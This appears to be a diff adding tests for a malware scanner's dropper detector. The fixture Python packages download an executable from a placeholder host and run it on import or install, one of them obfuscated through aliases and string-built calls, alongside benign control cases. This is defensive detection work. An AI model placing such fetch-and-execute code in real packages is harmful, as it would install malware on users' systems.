@@ -1,0 +1,91 @@
+import { expect, test } from 'vitest';
+import { inspect, python, sdist, wheel } from '../../support/inspect.ts';
+
+test('a program that is downloaded and started at import is malware at the line that starts it', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import subprocess',
+      'import urllib.request',
+      '',
+      "urllib.request.urlretrieve('https://files.tools.invalid/agent.exe', '/tmp/agent.exe')",
+      "subprocess.Popen(['/tmp/agent.exe'])",
+    ),
+  });
+
+  const findings = await inspect('dropper', file);
+
+  expect(findings).toMatchObject([
+    { class: 'malware', score: 10, context: 'import', path: 'pkg/__init__.py', line: 5 },
+  ]);
+  expect(findings[0]?.chain).toContainEqual(
+    expect.objectContaining({ role: 'transformation', line: 4, text: 'written to /tmp/agent.exe' }),
+  );
+});
+
+test('a program that is only written at install is named at the line that writes it', async () => {
+  const file = sdist({
+    'setup.py': python(
+      'import requests',
+      'from setuptools import setup',
+      "body = requests.get('https://files.tools.invalid/agent').content",
+      "with open('/tmp/agent.exe', 'wb') as out:",
+      '    out.write(body)',
+      "setup(name='example')",
+    ),
+  });
+
+  expect(await inspect('dropper', file)).toMatchObject([
+    { class: 'malware', context: 'install', path: 'example-1.0.0/setup.py', line: 5 },
+  ]);
+});
+
+test('a data set that is downloaded on call and read is no dropper', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import json',
+      'import urllib.request',
+      '',
+      'def load(path):',
+      "    urllib.request.urlretrieve('https://data.tables.invalid/iris.json', path + '/iris.json')",
+      "    with open(path + '/iris.json') as table:",
+      '        return json.load(table)',
+    ),
+  });
+
+  expect(await inspect('dropper', file)).toEqual([]);
+});
+
+test('an archive of sources that make builds at install stays below quarantine', async () => {
+  const file = sdist({
+    'setup.py': python(
+      'import subprocess',
+      'import urllib.request',
+      'from setuptools import setup',
+      "urllib.request.urlretrieve('https://www.library.invalid/libfoo-1.2.tar.gz', 'libfoo-1.2.tar.gz')",
+      "subprocess.check_call(['tar', 'xf', 'libfoo-1.2.tar.gz'])",
+      "setup(name='example')",
+    ),
+  });
+
+  for (const { score } of await inspect('dropper', file)) expect(score).toBeLessThan(5);
+});
+
+test('a download behind aliases, a helper function and a path put together is found', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import os as system_tools, tempfile',
+      'from requests import get as load',
+      '',
+      'def keep(address, place):',
+      "    with open(place, 'wb') as out:",
+      '        out.write(load(address).content)',
+      '    return place',
+      '',
+      "name = 'up' + 'date' + '.exe'",
+      "kept = keep('https://' + 'files.tools.invalid' + '/u', '/tmp/' + name)",
+      'getattr(system_tools, "sys" + "tem")(kept)',
+    ),
+  });
+
+  expect(await inspect('dropper', file)).toMatchObject([{ class: 'malware', path: 'pkg/__init__.py', line: 11 }]);
+});
